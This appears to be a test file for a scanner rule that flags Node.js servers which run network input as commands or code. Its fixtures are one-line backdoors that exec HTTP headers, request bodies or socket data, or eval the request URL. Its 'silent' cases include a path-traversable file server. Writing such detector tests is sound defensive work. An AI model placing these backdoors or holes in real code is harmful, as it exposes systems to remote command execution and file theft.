import { examine } from '../../../test/examine.ts';
import { obeysNetworkRequests } from './obeys-network-requests.ts';

examine(obeysNetworkRequests, {
  speaks: [
    {
      when: 'a header becomes a command',
      files: {
        'index.js': `const cp = require('child_process'); require('http').createServer((req, res) => cp.exec(req.headers.cmd)).listen(0)`,
      },
      weight: 'proof',
      says: ['commands'],
    },
    {
      when: 'a body becomes code',
      files: { 'index.js': `require('http').createServer((req, res) => { eval(decodeURIComponent(req.url)) }).listen(0)` },
      weight: 'proof',
      says: ['code'],
    },
    {
      when: 'a socket gives the command',
      files: { 'index.js': `require('net').createServer(s => s.on('data', d => require('child_process').exec(d.toString()))).listen(0)` },
      weight: 'proof',
    },
    {
      when: 'a framework takes the request',
      files: {
        'index.js': `const app = require('express')(); app.post('/x', (req, res) => require('child_process').exec(req.body.cmd)); app.listen(0)`,
      },
      weight: 'proof',
    },
  ],
  silent: [
    {
      when: 'a server answers with files',
      files: {
        'index.js': `require('http').createServer((req, res) => require('fs').createReadStream('public' + req.url).pipe(res)).listen(0)`,
      },
    },
    {
      when: 'a request starts a program that is known',
      files: {
        'index.js': `const cp = require('child_process'); require('http').createServer((req, res) => cp.execFile('git', ['log', req.url])).listen(0)`,
      },
    },
  ],
});
